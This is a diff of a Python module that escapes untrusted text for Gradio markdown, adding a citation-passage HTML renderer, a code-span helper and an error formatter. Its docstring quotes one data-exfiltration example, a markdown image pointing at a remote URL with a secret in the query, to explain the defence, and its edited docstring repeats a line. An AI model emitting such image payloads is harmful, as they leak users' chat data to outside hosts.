@@ -1,10 +1,16 @@
 """Untrusted text made safe to render as Gradio markdown.
 
 Model output, retrieved passages, memories, file names and GGUF metadata are untrusted
-(see ARCHITECTURE.md, trust boundaries). Two levels:
+(see ARCHITECTURE.md, trust boundaries). Three levels:
 
 - ``escape_text``: inert text. No HTML, links, images, emphasis or code spans survive.
   For names, snippets, captions, summaries and error messages.
+- ``passage_html``: a stored document passage as escaped HTML with the cited span marked
+  (the citation viewer).
+
+
+  For names, snippets, captions, summaries and error messages (``error_markdown``), or
+  ``code_span`` for a file name shown as code.
 - ``safe_markdown``: model answers keep their markdown (bold, lists, code blocks, links), but
   raw HTML is shown as text and image syntax never becomes an ``<img>``: a remote image
   would be a zero-click request that carries chat data out (``![](https://x/?q=secret)``).
@@ -15,6 +21,8 @@ from __future__ import annotations
 
 import html
 import re
+
+from engine.errors import EngineError
 
 #: markdown characters that start emphasis, links, images, code, headings, tables or escapes
 _MARKDOWN_SPECIALS = "\\`*_[]#|!~"
@@ -43,6 +51,38 @@ def escape_text(text: object) -> str:
 def escape_inline(text: object) -> str:
     """Like ``escape_text`` on one line: newlines become spaces (table cells, headings)."""
     return escape_text(" ".join(str(text).split()))
+
+
+def passage_html(
+    text: str, start: int, end: int, *, more_before: bool = False, more_after: bool = False
+) -> str:
+    """A stored passage as inert HTML with ``text[start:end]`` marked: every character of the
+    text is escaped, so the only elements are the wrapper and the ``<mark>`` added here."""
+    start = max(0, min(start, len(text)))
+    end = max(start, min(end, len(text)))
+    return (
+        '<div class="hearth-passage">'
+        + ("… " if more_before else "")
+        + html.escape(text[:start])
+        + '<mark class="hearth-cited">'
+        + html.escape(text[start:end])
+        + "</mark>"
+        + html.escape(text[end:])
+        + (" …" if more_after else "")
+        + "</div>"
+    )
+
+
+def code_span(text: object) -> str:
+    """A name (a file name) as an inline code span: nothing inside can end the span early
+    (a backtick, a blank line), and code spans render no markup."""
+    return "`" + (" ".join(str(text).replace("`", "'").split()) or "?") + "`"
+
+
+def error_markdown(error: EngineError) -> str:
+    """An engine error as the page shows it: its title in bold, then its message, both inert
+    (messages quote file names, model names and server replies, which are untrusted)."""
+    return f"⚠️ **{escape_text(error.title)}**: {escape_text(error)}"
 
 
 def safe_markdown(text: str) -> str:
